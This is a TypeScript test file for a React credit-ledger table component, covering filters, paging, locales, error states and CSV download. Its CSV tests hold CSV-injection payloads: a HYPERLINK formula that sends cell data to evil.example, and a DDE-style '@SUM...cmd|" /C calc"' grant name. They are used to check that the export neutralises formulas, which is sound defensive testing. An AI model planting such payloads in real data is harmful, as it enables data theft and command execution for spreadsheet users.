import { QueryClient } from '@tanstack/react-query';
import { act, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { CreditBalanceSummary, CreditTransactionHistory, type CreditLedgerCsvFile } from '../../src/components';
import { CreditsError, type CreditBalance, type CreditsRequest } from '../../src/core';
import { wholeText } from '../../src/testing';
import { creditBalances, rawBalance, type BalanceSpec } from '../fixtures/credit-balance-builder';
import { expectNoAxeViolations } from '../helpers/axe';
import { fakeFetcher } from '../react/support/fake-fetcher';
import { renderWithProvider } from './support/render';

// TODAY is 2026-11-21.
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';

const gbpSpec: BalanceSpec = {
  grants: [
    { id: 'welcome', name: 'Welcome credit', originalAmount: '500', balance: '312.4' },
    // Sequence names cash grants after their currency: shown as "GBP credit".
    { id: 'topup', name: 'GBP', originalAmount: '500', balance: '500' },
  ],
  transactions: [
    { id: 'c1', grantId: 'welcome', type: 'CREDIT', amount: '500', date: '2026-09-01', reason: 'Welcome offer' },
    { id: 'd1', grantId: 'welcome', type: 'DEBIT', amount: '187.6', date: '2026-10-01', reason: null, invoiceId: 'inv-1' },
    { id: 'c2', grantId: 'topup', type: 'CREDIT', amount: '500', date: '2026-11-01', reason: null },
  ],
};
const callsSpec: BalanceSpec = {
  type: 'USAGE',
  grants: [{ id: 'calls', name: 'API calls', originalAmount: '10000', balance: '7500' }],
  transactions: [
    { id: 'uc', grantId: 'calls', type: 'CREDIT', amount: '10000', date: '2026-10-15', reason: 'Plan allowance' },
    { id: 'ud', grantId: 'calls', type: 'DEBIT', amount: '2500', date: '2026-11-10', reason: 'Invoice INV-12' },
  ],
};
const balances = creditBalances(gbpSpec, callsSpec);

const bodyRows = () => within(screen.getAllByRole('rowgroup')[1]!).getAllByRole('row');
const cellsOf = (row: HTMLElement) => [...row.querySelectorAll('th, td')].map((cell) => cell.textContent);
const column = (name: string) => bodyRows().map((row) => row.querySelector(`[data-column="${name}"]`)?.textContent);

/** Renders with `onDownload`, and returns what the last download was given. */
function renderWithDownloads(ui: (onDownload: (file: CreditLedgerCsvFile) => void) => React.ReactElement) {
  const files: CreditLedgerCsvFile[] = [];
  const result = renderWithProvider(ui((file) => files.push(file)));
  return { ...result, files };
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('CreditTransactionHistory with balances as props', () => {
  it('lists every transaction newest first: date, grant, description, signed amount and the running balance of its unit', async () => {
    const { container } = renderWithProvider(<CreditTransactionHistory balances={balances} />);
    expect(screen.getByRole('heading', { name: 'Credit transactions' })).toBeInTheDocument();
    expect(screen.getAllByRole('columnheader').map((header) => header.textContent)).toEqual(['Date', 'Credit grant', 'Description', 'Amount', 'Balance']);
    // The balance's label is for the narrow card layout, where the column headers are hidden (and it is hidden from screen readers).
    expect(bodyRows().map(cellsOf)).toEqual([
      ['10 Nov 2026', 'API calls', 'UsedInvoice INV-12', '-2,500 API calls', 'Balance 7,500 API calls'],
      ['1 Nov 2026', 'GBP credit', 'Added', '+£500.00', 'Balance £812.40'],
      ['15 Oct 2026', 'API calls', 'AddedPlan allowance', '+10,000 API calls', 'Balance 10,000 API calls'],
      ['1 Oct 2026', 'Welcome credit', 'Used', '-£187.60', 'Balance £312.40'],
      ['1 Sept 2026', 'Welcome credit', 'AddedWelcome offer', '+£500.00', 'Balance £500.00'],
    ]);
    // The description is in the viewer's language first; Sequence's reason (the host's own words, any language) is a line of its own beneath.
    const reasons = bodyRows().map((row) => row.querySelector('[data-column="description"] [data-slot="transaction-history-reason"]')?.textContent ?? null);
    expect(reasons).toEqual(['Invoice INV-12', null, 'Plan allowance', null, 'Welcome offer']);
    const [first] = bodyRows();
    expect(within(first!).getByRole('rowheader')).toHaveTextContent('10 Nov 2026');
    expect(first!.querySelector('[data-slot="transaction-history-cell-label"]')).toHaveAttribute('aria-hidden', 'true');
    expect(bodyRows().map((row) => row.dataset.type)).toEqual(['DEBIT', 'CREDIT', 'CREDIT', 'DEBIT', 'CREDIT']);
    // Names, reasons and amounts keep their own direction.
    expect(first!.querySelector('[data-column="amount"] bdi')).toHaveTextContent('-2,500 API calls');
    expect(screen.getByText(wholeText('Showing 5 of 5 transactions'))).toBeInTheDocument();
    expect(screen.getByText('Usage is recorded when invoices are issued.')).toBeInTheDocument();
    expect(screen.queryByText(/expired unused/)).not.toBeInTheDocument();
    await expectNoAxeViolations(container);
  });

  it('filters by unit, keeping each row’s running balance, and offers the unit filter only for more than one unit', async () => {
    const user = userEvent.setup();
    const { unmount } = renderWithProvider(<CreditTransactionHistory balances={balances} />);
    const unit = screen.getByRole('combobox', { name: 'Unit' });
    expect(within(unit).getAllByRole('option').map((option) => option.textContent)).toEqual(['All units', 'GBP credit', 'API calls']);
    await user.selectOptions(unit, 'GBP credit');
    expect(column('balance')).toEqual(['Balance £812.40', 'Balance £312.40', 'Balance £500.00']);
    expect(screen.getByText(wholeText('Showing 3 of 3 transactions'))).toBeInTheDocument();
    await user.selectOptions(unit, 'API calls');
    expect(column('amount')).toEqual(['-2,500 API calls', '+10,000 API calls']);
    await user.selectOptions(unit, 'All units');
    expect(bodyRows()).toHaveLength(5);
    unmount();

    renderWithProvider(<CreditTransactionHistory balances={creditBalances(gbpSpec)} />);
    expect(screen.queryByRole('combobox', { name: 'Unit' })).not.toBeInTheDocument();
    expect(screen.getByRole('combobox', { name: 'Type' })).toBeInTheDocument();
  });

  it('filters by type: credit used or added', async () => {
    const user = userEvent.setup();
    renderWithProvider(<CreditTransactionHistory balances={balances} />);
    const type = screen.getByRole('combobox', { name: 'Type' });
    expect(within(type).getAllByRole('option').map((option) => option.textContent)).toEqual(['All types', 'Used', 'Added']);
    await user.selectOptions(type, 'Used');
    expect(column('amount')).toEqual(['-2,500 API calls', '-£187.60']);
    await user.selectOptions(type, 'Added');
    expect(column('amount')).toEqual(['+£500.00', '+10,000 API calls', '+£500.00']);
    // Both filters at once.
    await user.selectOptions(screen.getByRole('combobox', { name: 'Unit' }), 'API calls');
    expect(column('amount')).toEqual(['+10,000 API calls']);
    expect(column('balance')).toEqual(['Balance 10,000 API calls']);
  });

  it('starts on the unit and type it is given: a unit key, a currency code or a metric id', () => {
    const { unmount } = renderWithProvider(<CreditTransactionHistory balances={balances} defaultUnit="GBP" defaultType="used" />);
    expect(screen.getByRole('combobox', { name: 'Unit' })).toHaveValue('CASH:GBP');
    expect(screen.getByRole('combobox', { name: 'Type' })).toHaveValue('used');
    expect(column('amount')).toEqual(['-£187.60']);
    unmount();
    const again = renderWithProvider(<CreditTransactionHistory balances={balances} defaultUnit="USAGE:metric:metric-api-calls" />);
    expect(column('amount')).toEqual(['-2,500 API calls', '+10,000 API calls']);
    again.unmount();
    // A unit the ledger does not hold shows every unit, never an empty table.
    renderWithProvider(<CreditTransactionHistory balances={balances} defaultUnit="EUR" />);
    expect(screen.getByRole('combobox', { name: 'Unit' })).toHaveValue('');
    expect(bodyRows()).toHaveLength(5);
  });

  it('reveals a long ledger a window at a time, and keeps focus near the button when it goes', async () => {
    const user = userEvent.setup();
    const many = creditBalances({
      grants: [{ id: 'big', name: 'Big credit', originalAmount: '1000', balance: '940' }],
      transactions: [
        { grantId: 'big', type: 'CREDIT', amount: '1000', date: '2026-01-01' },
        ...Array.from({ length: 59 }, (_, index) => ({
          grantId: 'big',
          type: 'DEBIT' as const,
          amount: '1',
          date: `2026-${String(2 + Math.floor(index / 28)).padStart(2, '0')}-${String((index % 28) + 1).padStart(2, '0')}`,
        })),
      ],
    });
    renderWithProvider(<CreditTransactionHistory balances={many} rowsPerPage={25} />);
    expect(bodyRows()).toHaveLength(25);
    expect(screen.getByText(wholeText('Showing 25 of 60 transactions'))).toBeInTheDocument();
    // The newest row carries the balance after every transaction.
    expect(column('balance')[0]).toBe('Balance £941.00');
    await user.click(screen.getByRole('button', { name: 'Load more' }));
    expect(bodyRows()).toHaveLength(50);
    await user.click(screen.getByRole('button', { name: 'Load more' }));
    expect(bodyRows()).toHaveLength(60);
    expect(column('balance')[59]).toBe('Balance £1,000.00');
    expect(screen.queryByRole('button', { name: 'Load more' })).not.toBeInTheDocument();
    expect(screen.getByText(wholeText('Showing 60 of 60 transactions'))).toHaveFocus();
    // A filter starts the window again.
    await user.selectOptions(screen.getByRole('combobox', { name: 'Type' }), 'Used');
    expect(bodyRows()).toHaveLength(25);
    expect(screen.getByText(wholeText('Showing 25 of 59 transactions'))).toBeInTheDocument();
  });

  it('opens a row’s grant from the keyboard, and returns focus to it on Escape', async () => {
    const user = userEvent.setup();
    renderWithProvider(<CreditTransactionHistory balances={balances} />);
    const opener = within(bodyRows()[3]!).getByRole('button', { name: 'Welcome credit' });
    expect(opener).toHaveAttribute('aria-haspopup', 'dialog');
    opener.focus();
    await user.keyboard('{Enter}');
    const dialog = await screen.findByRole('dialog', { name: 'Welcome credit' });
    // The dialog shows that grant's transactions, from the same balances.
    const transactions = within(within(dialog).getByRole('table')).getAllByRole('row').slice(1);
    expect(transactions.map((row) => row.textContent)).toEqual(['1 Sept 2026AddedWelcome offer+£500.00', '1 Oct 2026Used-£187.60']);
    await expectNoAxeViolations();
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(opener).toHaveFocus();
  });

  it('hands the grant to onSelectGrant instead of opening the dialog', async () => {
    const user = userEvent.setup();
    const chosen: string[] = [];
    renderWithProvider(<CreditTransactionHistory balances={balances} onSelectGrant={(grant) => chosen.push(grant.id)} />);
    await user.click(within(bodyRows()[1]!).getByRole('button', { name: 'GBP credit' }));
    expect(chosen).toEqual(['topup']);
    expect(screen.queryByRole('dialog')).not.toBeInTheDocument();
  });

  it('tells grants of the same name apart by the first day each could be used', () => {
    renderWithProvider(
      <CreditTransactionHistory
        balances={creditBalances({
          grants: [
            { id: 'oct', name: 'GBP', balance: '0', originalAmount: '50', effectiveDate: '2026-10-01' },
            { id: 'nov', name: 'GBP', balance: '50', originalAmount: '50', effectiveDate: '2026-11-01' },
            { id: 'one', name: 'Welcome credit', balance: '5', originalAmount: '5', effectiveDate: '2026-09-01' },
          ],
          transactions: [
            { grantId: 'oct', type: 'CREDIT', amount: '50', date: '2026-10-01' },
            { grantId: 'oct', type: 'DEBIT', amount: '50', date: '2026-10-20' },
            { grantId: 'nov', type: 'CREDIT', amount: '50', date: '2026-11-01' },
            { grantId: 'one', type: 'CREDIT', amount: '5', date: '2026-09-01' },
          ],
        })}
      />,
    );
    expect(column('grant')).toEqual(['GBP creditFrom 1 Nov 2026', 'GBP creditFrom 1 Oct 2026', 'GBP creditFrom 1 Oct 2026', 'Welcome credit']);
    // The button's name stays the grant's name.
    expect(within(bodyRows()[0]!).getByRole('button')).toHaveAccessibleName('GBP credit');
  });

  it('names a grant the balances do not list as unknown, without a button', () => {
    renderWithProvider(
      <CreditTransactionHistory
        balances={creditBalances({ grants: [{ id: 'kept', balance: '10' }], transactions: [{ grantId: 'gone', type: 'DEBIT', amount: '5', date: '2026-11-02' }] })}
      />,
    );
    const [row] = bodyRows();
    expect(within(row!).queryByRole('button')).not.toBeInTheDocument();
    expect(row!.querySelector('[data-column="grant"]')).toHaveTextContent('Unknown credit grant');
  });

  describe('Download CSV', () => {
    it('downloads the filtered rows: one header row, ISO dates, exact decimals, every unit’s own running balance', async () => {
      const user = userEvent.setup();
      const { files } = renderWithDownloads((onDownload) => <CreditTransactionHistory balances={balances} onDownload={onDownload} />);
      await user.click(screen.getByRole('button', { name: 'Download CSV' }));
      expect(files).toHaveLength(1);
      const [file] = files;
      expect(file!.name).toBe('credit-ledger-2026-11-21.csv');
      expect(file!.type).toBe('text/csv;charset=utf-8');
      // A byte order mark first, so Excel reads names as UTF-8; then CRLF lines.
      expect(file!.text.startsWith('\uFEFFDate,')).toBe(true);
      const lines = file!.text.slice(1).split('\r\n');
      expect(lines).toEqual([
        'Date,Unit,Grant ID,Grant,Type,Reason,Invoice ID,Amount,Running balance,Transaction ID',
        '2026-11-10,API calls,calls,API calls,DEBIT,Invoice INV-12,,-2500,7500,ud',
        '2026-11-01,GBP,topup,GBP,CREDIT,,,500,812.4,c2',
        '2026-10-15,API calls,calls,API calls,CREDIT,Plan allowance,,10000,10000,uc',
        '2026-10-01,GBP,welcome,Welcome credit,DEBIT,,inv-1,-187.6,312.4,d1',
        '2026-09-01,GBP,welcome,Welcome credit,CREDIT,Welcome offer,,500,500,c1',
        '',
      ]);

      // Every row of the filter, not only the window on screen; the unit in the file name.
      await user.selectOptions(screen.getByRole('combobox', { name: 'Unit' }), 'API calls');
      await user.selectOptions(screen.getByRole('combobox', { name: 'Type' }), 'Used');
      await user.click(screen.getByRole('button', { name: 'Download CSV' }));
      expect(files[1]!.name).toBe('credit-ledger-api-calls-2026-11-21.csv');
      expect(files[1]!.text.slice(1).split('\r\n').slice(1)).toEqual(['2026-11-10,API calls,calls,API calls,DEBIT,Invoice INV-12,,-2500,7500,ud', '']);
    });

    it('writes every row of the filter, past the window on screen, with 20-digit amounts exact', async () => {
      const user = userEvent.setup();
      const huge = creditBalances({
        grants: [{ id: 'huge', name: 'Huge', originalAmount: '12345678901234567890.12', balance: '12345678901234567890.12' }],
        transactions: Array.from({ length: 30 }, (_, index) => ({
          grantId: 'huge',
          type: 'CREDIT' as const,
          amount: index === 0 ? '12345678901234567890.12' : '0.01',
          reason: null,
          date: `2026-10-${String(index + 1).padStart(2, '0')}`,
        })),
      });
      const { files } = renderWithDownloads((onDownload) => <CreditTransactionHistory balances={huge} onDownload={onDownload} rowsPerPage={10} />);
      expect(bodyRows()).toHaveLength(10);
      await user.click(screen.getByRole('button', { name: 'Download CSV' }));
      const records = files[0]!.text.slice(1).trimEnd().split('\r\n').slice(1);
      expect(records).toHaveLength(30);
      expect(records[0]).toMatch(/^2026-10-30,GBP,huge,Huge,CREDIT,,,0\.01,12345678901234567890\.41,/);
      expect(records[29]).toMatch(/^2026-10-01,GBP,huge,Huge,CREDIT,,,12345678901234567890\.12,12345678901234567890\.12,/);
    });

    it('neutralises a hostile reason or grant name against spreadsheet formulas, and shows it as plain text', async () => {
      const user = userEvent.setup();
      const hostile = creditBalances({
        grants: [{ id: 'h', name: '@SUM(1+1)*cmd|" /C calc"!A0', balance: '90' }],
        transactions: [
          { id: 'c', grantId: 'h', type: 'CREDIT', amount: '100', date: '2026-11-01', reason: '+Bonus' },
          { id: 'd', grantId: 'h', type: 'DEBIT', amount: '10', date: '2026-11-02', reason: HOSTILE },
          { id: 't', grantId: 'h', type: 'DEBIT', amount: '0', date: '2026-11-03', reason: '\t-1' },
        ],
      });
      const { files } = renderWithDownloads((onDownload) => <CreditTransactionHistory balances={hostile} onDownload={onDownload} />);
      // On screen, it is only text.
      expect(screen.getByText(HOSTILE)).toBeInTheDocument();
      await user.click(screen.getByRole('button', { name: 'Download CSV' }));
      const [, ...records] = files[0]!.text.slice(1).trimEnd().split('\r\n');
      expect(records).toEqual([
        `2026-11-03,GBP,h,"'@SUM(1+1)*cmd|"" /C calc""!A0",DEBIT,'\t-1,,0,90,t`,
        `2026-11-02,GBP,h,"'@SUM(1+1)*cmd|"" /C calc""!A0",DEBIT,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")",,-10,90,d`,
        `2026-11-01,GBP,h,"'@SUM(1+1)*cmd|"" /C calc""!A0",CREDIT,'+Bonus,,100,100,c`,
      ]);
      // No field a spreadsheet reads as a formula is left: each one starts with a quote.
      for (const record of records) {
        for (const field of record.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
          const value = field.replace(/,$/, '').replace(/^"|"$/g, '');
          if (/^-?\d+(\.\d+)?$/.test(value)) continue;
          expect(value, record).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    });

    it('takes the host’s columns and header labels', async () => {
      const user = userEvent.setup();
      const { files } = renderWithDownloads((onDownload) => (
        <CreditTransactionHistory
          balances={balances}
          defaultUnit="GBP"
          onDownload={onDownload}
          csvOptions={{ columns: ['date', 'amount'], labels: { date: 'Datum', amount: 'Betrag' }, byteOrderMark: false }}
        />
      ));
      await user.click(screen.getByRole('button', { name: 'Download CSV' }));
      expect(files[0]!.text).toBe('Datum,Betrag\r\n2026-11-01,500\r\n2026-10-01,-187.6\r\n2026-09-01,500\r\n');
      expect(files[0]!.name).toBe('credit-ledger-gbp-2026-11-21.csv');
    });

    it('cannot download a filter that matches nothing', async () => {
      const user = userEvent.setup();
      renderWithProvider(<CreditTransactionHistory balances={creditBalances({ grants: [{ id: 'g', balance: '100' }], transactions: [{ grantId: 'g', type: 'CREDIT', amount: '100', date: '2026-11-01' }] })} />);
      await user.selectOptions(screen.getByRole('combobox', { name: 'Type' }), 'Used');
      expect(screen.getByText('No transactions match these filters.')).toBeInTheDocument();
      expect(screen.getByRole('button', { name: 'Download CSV' })).toBeDisabled();
    });
  });

  it('shows an empty ledger without controls that would do nothing', async () => {
    const { container } = renderWithProvider(<CreditTransactionHistory balances={[]} />);
    expect(screen.getByText('No transactions yet')).toBeInTheDocument();
    expect(screen.getByText('Credit added to your account, and credit used, will be listed here.')).toBeInTheDocument();
    expect(screen.queryByRole('table')).not.toBeInTheDocument();
    expect(screen.queryByRole('combobox')).not.toBeInTheDocument();
    expect(screen.queryByRole('button')).not.toBeInTheDocument();
    expect(screen.queryByText('Usage is recorded when invoices are issued.')).not.toBeInTheDocument();
    await expectNoAxeViolations(container);
  });

  it('offers "Buy credit" in the empty state when the host gives a handler', async () => {
    const user = userEvent.setup();
    let asked = 0;
    renderWithProvider(<CreditTransactionHistory balances={[]} onBuyCredit={() => (asked += 1)} />);
    await user.click(screen.getByRole('button', { name: 'Buy credit' }));
    expect(asked).toBe(1);
  });

  it('shows a skeleton shaped like rows while loading, announced', async () => {
    const { container } = renderWithProvider(<CreditTransactionHistory balances={[]} isLoading />);
    expect(screen.getByRole('status')).toHaveTextContent('Loading transactions…');
    const skeleton = container.querySelector('[data-slot="transaction-history-skeleton"]');
    expect(skeleton).toHaveAttribute('aria-busy', 'true');
    expect(skeleton?.querySelectorAll('[data-slot="transaction-history-skeleton-row"]')).toHaveLength(5);
    expect(screen.queryByText('No transactions yet')).not.toBeInTheDocument();
    await expectNoAxeViolations(container);
  });

  it('shows an error with the host’s retry, and keeps the rows it has beside it', async () => {
    const user = userEvent.setup();
    let retried = 0;
    const error = new CreditsError('SERVER', 'boom', { status: 502 });
    const { rerender } = renderWithProvider(<CreditTransactionHistory balances={[]} error={error} onRetry={() => (retried += 1)} />);
    expect(screen.getByRole('alert')).toHaveTextContent(/^Transactions could not be loaded\.Try again$/);
    expect(screen.queryByText('No transactions yet')).not.toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Try again' }));
    expect(retried).toBe(1);
    rerender(<CreditTransactionHistory balances={balances} error={error} onRetry={() => (retried += 1)} />);
    expect(screen.getByRole('alert')).toHaveTextContent(/^Could not refresh: showing the transactions loaded before\.Try again$/);
    expect(bodyRows()).toHaveLength(5);
  });

  it('says when items could not be read, and says that expired credit stays in the balances', () => {
    renderWithProvider(
      <CreditTransactionHistory
        invalidCount={2}
        balances={creditBalances({
          grants: [{ id: 'old', name: 'Old credit', originalAmount: '100', balance: '60', expiryDate: '2026-11-20' }],
          transactions: [
            { grantId: 'old', type: 'CREDIT', amount: '100', date: '2026-06-01' },
            { grantId: 'old', type: 'DEBIT', amount: '40', date: '2026-07-01' },
          ],
        })}
      />,
    );
    expect(screen.getByText(wholeText('2 items could not be shown because their data was invalid: transactions and balances here may be incomplete.'))).toBeInTheDocument();
    expect(screen.getByText('Credit that expired unused is not deducted from these balances.')).toBeInTheDocument();
  });

  it('leaves out and reports a malformed transaction of hand-built balances, and never crashes on balances it cannot read', () => {
    const [good] = creditBalances(gbpSpec) as [CreditBalance];
    const broken = { ...good, transactions: [...good.transactions, { ...good.transactions[0]!, id: 'bad', amount: 'lots' }] };
    const { unmount } = renderWithProvider(<CreditTransactionHistory balances={[broken]} />);
    expect(bodyRows()).toHaveLength(3);
    expect(screen.getByText(wholeText('1 item could not be shown because its data was invalid: transactions and balances here may be incomplete.'))).toBeInTheDocument();
    unmount();

    const logged = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    renderWithProvider(<CreditTransactionHistory balances={[{ id: 'GBP' } as unknown as CreditBalance]} />);
    expect(screen.getByRole('alert')).toHaveTextContent('Transactions could not be loaded.');
    expect(screen.getByRole('alert')).toHaveAttribute('data-code', 'INVALID_RESPONSE');
    expect(screen.queryByRole('button', { name: 'Try again' })).not.toBeInTheDocument();
    expect(logged).toHaveBeenCalledWith(expect.objectContaining({ code: 'INVALID_RESPONSE', message: expect.stringContaining('CreditTransactionHistory') }));
  });

  it('refuses a rowsPerPage that is not a whole number of at least 1', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined);
    expect(() => renderWithProvider(<CreditTransactionHistory balances={balances} rowsPerPage={0} />)).toThrow(/rowsPerPage must be a whole number >= 1, got 0/);
  });
});

describe('CreditTransactionHistory locales', () => {
  it('de-DE: German amounts and dates in the rows, English words', () => {
    renderWithProvider(<CreditTransactionHistory balances={balances} />, { locale: 'de-DE' });
    expect(bodyRows().map(cellsOf)[3]).toEqual(['01.10.2026', 'Welcome credit', 'Used', '-187,60\u00a0£', 'Balance 312,40\u00a0£']);
    expect(column('amount')[0]).toBe('-2.500 API calls');
    expect(column('amount')[1]).toBe('+500,00\u00a0£');
  });

  it('ar-EG: Arabic digits, right to left, still accessible; English messages keep their own direction', async () => {
    const { container } = renderWithProvider(
      <div dir="rtl" lang="ar-EG">
        <CreditTransactionHistory balances={balances} />
      </div>,
      { locale: 'ar-EG' },
    );
    const pounds = new Intl.NumberFormat('ar-EG', { style: 'currency', currency: 'GBP', signDisplay: 'exceptZero' });
    expect(column('amount')[3]).toBe(pounds.format('-187.6'));
    expect(column('amount')[3]).toContain('١٨٧٫٦٠');
    expect(bodyRows()[3]!.querySelector('th')?.textContent).toContain('٢٠٢٦');
    for (const message of container.querySelectorAll('[data-slot="transaction-history-count"], [data-slot="transaction-history-notes"] p')) {
      expect(message).toHaveAttribute('dir', 'ltr');
    }
    await expectNoAxeViolations(container);
  });
});

describe('CreditTransactionHistory inside a provider', () => {
  const reply = { items: [rawBalance(gbpSpec), rawBalance(callsSpec)] };

  it('reads the balances the summary reads: one request for both', async () => {
    const fake = fakeFetcher(() => reply);
    renderWithProvider(
      <>
        <CreditBalanceSummary />
        <CreditTransactionHistory />
      </>,
      { fetcher: fake.fetcher },
    );
    expect(await screen.findByText(wholeText('Showing 5 of 5 transactions'))).toBeInTheDocument();
    expect(column('amount')).toEqual(['-2,500 API calls', '+£500.00', '+10,000 API calls', '-£187.60', '+£500.00']);
    expect(fake.requests.map((request) => [request.method, request.path])).toEqual([['GET', '/credits/balances']]);
  });

  it('shows the skeleton, then an error with a retry, and keeps the rows when a refresh fails', async () => {
    const user = userEvent.setup();
    let failing = true;
    const fake = fakeFetcher((_request: CreditsRequest) => {
      if (failing) throw new CreditsError('SERVER', 'boom', { status: 502 });
      return reply;
    });
    const queryClient = new QueryClient();
    renderWithProvider(<CreditTransactionHistory />, { fetcher: fake.fetcher, queryClient });
    expect(screen.getByRole('status')).toHaveTextContent('Loading transactions…');
    expect(await screen.findByRole('alert')).toHaveTextContent(/^Transactions could not be loaded\.Try again$/);
    failing = false;
    await user.click(screen.getByRole('button', { name: 'Try again' }));
    expect(await screen.findByText(wholeText('Showing 5 of 5 transactions'))).toBeInTheDocument();
    expect(screen.queryByRole('alert')).not.toBeInTheDocument();

    failing = true;
    await act(() => queryClient.refetchQueries());
    expect(await screen.findByRole('alert')).toHaveTextContent(/^Could not refresh: showing the transactions loaded before\.Try again$/);
    expect(bodyRows()).toHaveLength(5);
    queryClient.clear();
  });

  it('opens a row’s grant by id from the loaded balances, without another request, and returns focus', async () => {
    const user = userEvent.setup();
    const fake = fakeFetcher(() => reply);
    renderWithProvider(<CreditTransactionHistory />, { fetcher: fake.fetcher });
    await screen.findByText(wholeText('Showing 5 of 5 transactions'));
    const opener = within(bodyRows()[0]!).getByRole('button', { name: 'API calls' });
    opener.focus();
    await user.keyboard('{Enter}');
    const dialog = await screen.findByRole('dialog', { name: 'API calls' });
    expect(within(dialog).getAllByRole('row')).toHaveLength(3);
    expect(fake.requests).toHaveLength(1);
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(opener).toHaveFocus();
  });
});
